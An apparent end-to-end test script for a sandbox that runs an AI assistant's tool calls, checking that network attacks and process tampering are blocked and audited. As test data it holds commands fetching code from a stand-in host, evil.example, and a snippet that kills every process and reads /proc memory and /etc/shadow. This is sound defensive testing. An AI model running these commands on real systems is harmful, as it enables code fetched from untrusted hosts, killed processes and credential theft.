#!/usr/bin/python3
# Copyright (c) 2026 the telclauded authors
# SPDX-License-Identifier: ISC
#
# The network as a hostile tool finds it in the real family, in namespaces and
# without: around the proxy and through it (attack/net.py), and as curl, git,
# npm, pip and apt-get do, which work unchanged for names of the list and hear
# a reason for others.  The web is real TLS at the real names (webserver.py).
import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile

HERE = os.path.dirname(os.path.realpath(__file__))
sys.path.insert(0, HERE + "/../e2e/lib")
import family                                           # noqa: E402
import session                                          # noqa: E402
import kernel                                           # noqa: E402
import tap                                              # noqa: E402
import world                                            # noqa: E402
from fakes import text, tool                            # noqa: E402
from family import BEN, Family, config                  # noqa: E402

with open(world.TOP + "/telclauded/domains.def") as f:
    TABLE = re.findall(r'D\(TOOLS, "([^"]+)"\)', f.read())
NPM = "registry" + [n for n in TABLE if n.startswith("*.npm")][0][1:]
PYPI = [n for n in TABLE if n.startswith("py")][0]
PYFILES = [n for n in TABLE if n.startswith("files.py")][0]
GIT = [n for n in TABLE if n.startswith("github")][0]
DEB = "packages.example"
WEB = [GIT, NPM, PYPI, PYFILES, DEB, "evil.example"]
world.NAMES.update({n: world.WEB_ADDR for n in WEB})
world.NAMES.update({"private.example": "10.0.0.5",
                    "meta.example": "169.254.169.254",
                    "loop.example": "127.0.0.1",
                    "host.example": world.HOME_ADDR})
ROOT, RECORD = world.W + "/web", world.W + "/web.record"
ALLOW = "firewall { %s allow domain { \"" + "\" \"".join(
    [DEB, "private.example", "meta.example", "loop.example",
     "host.example"]) + "\" }%s }"
WALL = {"EPERM", "EACCES", "EROFS", "ENOENT"}
ITEMS = ("DNS", "metadata", "the proxy", "domain fronting", "DNS rebinding",
         "redirect to private", "request smuggling", "slow-loris")


# --- what the web holds ---------------------------------------------------------
def put(host, path, data):
    full = "%s/%s/%s" % (ROOT, host, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def npm_package():
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for name, body in (("package.json", json.dumps(
                {"name": "tinypkg", "version": "1.0.0", "main": "i.js"})),
                ("i.js", "module.exports = 'from the registry';\n")):
            i = tarfile.TarInfo("package/" + name)
            i.size = len(body)
            t.addfile(i, io.BytesIO(body.encode()))
    digest = base64.b64encode(hashlib.sha512(b.getvalue()).digest()).decode()
    put(NPM, "tinypkg/-/tinypkg-1.0.0.tgz", b.getvalue())
    put(NPM, "tinypkg/index.html", json.dumps(
        {"name": "tinypkg", "dist-tags": {"latest": "1.0.0"},
         "versions": {"1.0.0": {"name": "tinypkg", "version": "1.0.0",
                                "dist": {"tarball": "https://%s/tinypkg/-/"
                                         "tinypkg-1.0.0.tgz" % NPM,
                                         "integrity": "sha512-" + digest}}}}))


def pip_package():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("tinypkg.py", "WHERE = 'from the index'\n")
        z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\n"
                   "Name: tinypkg\nVersion: 1.0\n")
        z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"
                   "Generator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("tinypkg-1.0.dist-info/RECORD", "tinypkg.py,,\n")
    put(PYFILES, "p/tinypkg-1.0-py3-none-any.whl", b.getvalue())
    put(PYPI, "simple/tinypkg/index.html", "<html><body><a href=\"https://%s/"
        "p/tinypkg-1.0-py3-none-any.whl\">tinypkg-1.0-py3-none-any.whl</a>"
        "</body></html>" % PYFILES)


def run(*argv, **kw):
    subprocess.run(argv, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, **kw)


def git_repository():
    d = world.W + "/tiny"
    env = {"PATH": "/usr/bin:/bin", "HOME": world.W}
    for k in ("AUTHOR", "COMMITTER"):
        env.update({"GIT_%s_NAME" % k: "t", "GIT_%s_EMAIL" % k: "t@t"})
    run("git", "init", "-q", d)
    with open(d + "/README", "w") as f:
        f.write("from the code host\n")
    run("git", "-C", d, "add", ".", env=env)
    run("git", "-C", d, "commit", "-qm", "x", env=env)
    run("git", "clone", "-q", "--bare", d, "%s/%s/t/tiny.git" % (ROOT, GIT),
        env=env)
    run("git", "-C", "%s/%s/t/tiny.git" % (ROOT, GIT), "update-server-info",
        env=env)


def deb_package():
    d = world.W + "/deb"
    os.makedirs(d + "/DEBIAN")
    with open(d + "/DEBIAN/control", "w") as f:
        f.write("Package: tinypkg\nVersion: 1.0\nArchitecture: all\n"
                "Maintainer: t <t@t>\nDescription: tiny\n")
    run("dpkg-deb", "--root-owner-group", "--build", d, world.W + "/t.deb")
    with open(world.W + "/t.deb", "rb") as f:
        data = f.read()
    put(DEB, "tinypkg.deb", data)
    put(DEB, "Packages", "Package: tinypkg\nVersion: 1.0\nArchitecture: all\n"
        "Maintainer: t <t@t>\nDescription: tiny\nFilename: ./tinypkg.deb\n"
        "Size: %d\nSHA256: %s\n\n" % (len(data),
                                      hashlib.sha256(data).hexdigest()))


def trust():
    """This world's tools trust its servers and have its sources."""
    for src in ("/etc/ssl/certs", "/etc/apt"):
        if not os.path.isdir(src):
            continue
        own = world.W + "/own" + src.replace("/", "_")
        run("cp", "-a", src, own)
        if src == "/etc/apt":
            shutil.rmtree(own + "/sources.list.d", ignore_errors=True)
            os.mkdir(own + "/sources.list.d")
            with open(own + "/sources.list", "w") as f:
                f.write("deb [trusted=yes] http://%s ./\n" % DEB)
        else:
            bundle = own + "/ca-certificates.crt"
            if os.path.lexists(bundle):
                os.unlink(bundle)
            shutil.copy(world.W + "/tls/ca.pem", bundle)
        world.run("mount", "--bind", own, src)


def web():
    for host in WEB:
        put(host, "index.html", "welcome to %s\n" % host)
    npm_package()
    pip_package()
    git_repository()
    if shutil.which("dpkg-deb"):
        deb_package()
    for a in ("10.0.0.5", "169.254.169.254"):
        world.inside("ip", "addr", "add", a + "/32", "dev", "lo")
    p = subprocess.Popen(world.in_servers(
        "/usr/bin/python3", HERE + "/lib/webserver.py",
        ",".join((world.WEB_ADDR, "10.0.0.5", "169.254.169.254")), ROOT,
        world.W + "/tls", RECORD, *WEB), stdout=subprocess.PIPE)
    os.read(p.stdout.fileno(), 100)


def record(mark=0):
    if not os.path.exists(RECORD):
        return []
    with open(RECORD) as f:
        return [json.loads(ln) for ln in f][mark:]


# --- the family ----------------------------------------------------------------------
class Contained(Family):
    """In a container without CAP_SYS_ADMIN, process 1 of it."""
    def start(self):
        o = world.obj()
        self.proc = subprocess.Popen(
            ["unshare", "--pid", "--fork", "--mount-proc", "--kill-child",
             "setpriv", "--bounding-set=-sys_admin", o + "/bin/telclauded",
             "-d", "-f", self.conf, "-L", o + "/libexec"], env=self.env,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=open(self.errors, "a"))
        return self


n = 0


def bash(fam, command, timeout=60):
    """The command as the model asks for it; its whole result."""
    global n
    n += 1
    word = "case-%03d" % n
    api.rule([tool("Bash", command=command)], text=word)
    api.rule([text("done " + word)], text=word, result="")
    said = tg.say(BEN, word)
    m = tg.answer(BEN, "done " + word, after=said["message_id"],
                  timeout=timeout)
    if m is None:
        return "NO ANSWER\n" + fam.log()[-3000:]
    last = api.requests("messages")[-1]["body"]["messages"][-1]["content"]
    out = []
    for part in last:
        c = part.get("content", "")
        out += [c] if isinstance(c, str) else [x.get("text", "") for x in c]
    return "\n".join(out)


def env():
    e = {"GOOD": GIT, "SECOND": PYPI, "WEB": world.WEB_ADDR,
         "NS": world.DNS_ADDR, "HOST": world.HOME_ADDR, "TG": world.TG_ADDR,
         "API": world.API_ADDR, "CA": "/etc/ssl/certs/ca-certificates.crt"}
    e.update({k: "-" for k in ("WS", "OUT", "OTHER", "STATE", "EXTRA",
                               "READ")})
    return " ".join("T_%s=%s" % kv for kv in e.items())


def attacks(fam, name):
    mark = len(record())
    out = bash(fam, "cd %s/code; %s PYTHONDONTWRITEBYTECODE=1 /usr/bin/python3 "
               "net.py > ../net.out 2>&1; wc -l ../net.out" % (session.PROJECTS, env()))
    with open(session.PROJECTS + "/net.out") as f:
        lines = f.read().splitlines()
    rows = [ln.split("|") for ln in lines]
    rows, odd = [r for r in rows if len(r) == 5], \
        [r for r in rows if len(r) != 5]
    bad = ["|".join(r) for r in rows if not (
        r[3] == "DONE" if r[1] == "twin" else
        r[3] in WALL | set(r[4].split()))]
    tap.ok(len(rows) > 160 and not bad and not odd, "%s: %d attempts on the "
           "network, each refused or done as it should be" % (
               name, len(rows)), "\n".join(bad + [str(odd)[:1500], out]))
    for item in ITEMS:
        kinds = [r[1] for r in rows if r[0] == item]
        tap.ok(kinds.count("never") and kinds.count("twin"),
               "%s: %s: %d attempts, %d twins" % (
                   name, item, kinds.count("never"), kinds.count("twin")))
    seen = record(mark)
    odd = [r for r in seen if "evil" in str(r.get("sni")) or
           "evil" in str(r.get("host")) or "smuggled" in str(r.get("path"))
           or (r.get("what") == "failed" and  # opened, and no byte came
               "reset" not in r["why"] and "EOF" not in r["why"]) or
           r.get("at", [world.WEB_ADDR])[0] != world.WEB_ADDR]
    tap.ok(len(seen) > 5 and not odd, name + ": the servers saw nothing of "
           "it: no other name, no smuggled request, no broken hello", odd)


CLIENTS = (
    ("curl", "curl -sS --max-time 20 https://%s/" % GIT, "welcome to " + GIT,
     "curl -sS --max-time 20 https://evil.example/", "403"),
    ("curl", "curl -sS --max-time 20 http://%s/" % GIT, "welcome to " + GIT,
     "curl -sS --max-time 20 http://evil.example/", "allowlist"),
    ("git", "rm -rf tiny; git clone -q https://%s/t/tiny.git && "
     "cat tiny/README" % GIT, "from the code host",
     "git clone https://evil.example/t/tiny.git t2", "403"),
    ("npm", "mkdir -p n && cd n && export NODE_EXTRA_CA_CERTS=/etc/ssl/certs/"
     "ca-certificates.crt && npm install --no-audit --no-fund --no-update-"
     "notifier tinypkg && node -p 'require(\"tinypkg\")'",
     "from the registry",
     "cd n && npm install --no-audit --no-update-notifier --registry "
     "https://evil.example/ other", "403"),
    ("pip3", "/usr/bin/python3 -m pip download -q --no-deps --cert /etc/ssl/"
     "certs/ca-certificates.crt --disable-pip-version-check -d w tinypkg && "
     "unzip -p w/*.whl tinypkg.py || /usr/bin/python3 -m zipfile -e w/*.whl "
     "w && cat w/tinypkg.py", "from the index",
     "/usr/bin/python3 -m pip download --disable-pip-version-"
     "check -i https://evil.example/simple other", "403"),
    ("apt-get", "mkdir -p a && cd a && apt-get -q update && apt-get -q "
     "download tinypkg && ls", "tinypkg_1.0_all.deb",
     "echo 'deb [trusted=yes] http://evil.example ./' > s.list && apt-get -q "
     "update -o Dir::Etc::sourcelist=$PWD/s.list", "403"),
)


def clients(fam):
    for prog, good, has, bad, says in CLIENTS:
        if shutil.which(prog, path="/usr/bin:/bin") is None:
            tap.skip(prog, prog + " is not here")
            continue
        r = bash(fam, "cd %s; (%s) 2>&1" % (session.PROJECTS, good))
        tap.ok(has in r, prog + " works unchanged: " + good[:40], r)
        mark = len(record())
        r = bash(fam, "cd %s; (%s) 2>&1" % (session.PROJECTS, bad))
        tap.ok(says in r and "timed out" not in r, prog + " hears why not: " +
               bad[:40], r)
        tap.ok(not record(mark), "  and nobody is asked", record(mark))


OTHERS = """
import os
me = {os.getpid(), os.getppid(), int(os.environ["A"]), int(os.environ["B"])}
hit = []
for p in range(1, 3000):
    if p in me:
        continue
    try:
        os.kill(p, 9)
        hit.append(p)
    except OSError:
        pass
    for f in ("mem", "environ", "fd", "maps", "cwd/", "root/etc/shadow"):
        try:
            os.close(os.open("/proc/%d/%s" % (p, f), os.O_RDONLY))
            hit.append((p, f))
        except OSError:
            pass
print("hit", hit, "end")
"""


def everybody(fam, name):
    """SIGKILL to every process there is, and a look into each."""
    parent = fam.proc.pid if name.startswith("in") else \
        family.children(fam.proc.pid)[0]
    before = set(family.children(parent))
    engines = {p for p in before if family.status_of(p).get("Name")
               in family.ENGINES}
    r = bash(fam, "export A=$$ B=$PPID; /usr/bin/python3 -c '%s'" % OTHERS)
    after = set(family.children(parent))
    tap.ok("hit [] end" in r and len(engines) == len(family.ENGINES) and
           engines <= after, name + ": a tool that would kill and look into "
           "every process finds none (%d engines)" % len(engines),
           "%s\n%s\n%s" % (r, engines, after))
    r = bash(fam, "ls -l %s/run %s/state 2>&1; /usr/bin/python3 -c 'import "
             "socket; socket.socket(socket.AF_UNIX).connect(\"%s/run/"
             "telclauded.sock\")'" % ((world.W,) * 3))
    tap.ok("Error" in r and "audit" not in r and "secrets" not in r,
           name + ": nor the control socket and the state", r)


def audited(fam, name):
    lines = []
    top = world.W + "/state/audit"
    for f in sorted(os.listdir(top)):
        with open(top + "/" + f) as g:
            lines += [ln for ln in g if GIT in ln or "evil.example" in ln]
    tap.ok(any("blocked" in ln and "evil.example" in ln for ln in lines) and
           any("success" in ln and GIT in ln for ln in lines),
           "%s: each connection has its line in the audit log (%d)" % (
               name, len(lines)), "".join(lines[-5:]))


tg, api = session.begin()
trust()
web()
CODE = session.PROJECTS + "/code"
os.makedirs(CODE)
for f in ("attack.py", "net.py"):
    shutil.copy(HERE + "/attack/" + f, CODE)
resolver = "" if world.RESOLV_CONF else "resolver { %s }" % world.DNS_ADDR
# What it runs is no accident.
conf = config(top=ALLOW % (resolver, "") +
              "\nfilter {\n\tcareful off\n}\n").replace(
    "firewall { resolver { %s } }\n" % world.DNS_ADDR, "")
fam = Family(conf, "network").start()
session.polling(tg, fam)
attacks(fam, "in namespaces")
everybody(fam, "in namespaces")
clients(fam)
audited(fam, "in namespaces")
fam.stop()
session.fresh()
if kernel.no_fallback() is not None:
    tap.skip("without namespaces", kernel.no_fallback())
    session.finish("network", tg, api)
fam = Contained(conf, "network-contained").start()
session.polling(tg, fam)
attacks(fam, "without namespaces")
everybody(fam, "without namespaces")
pid = family.children(fam.proc.pid)[0]
os.kill(pid, 15)
fam.proc.wait(15)
session.finish("network", tg, api)
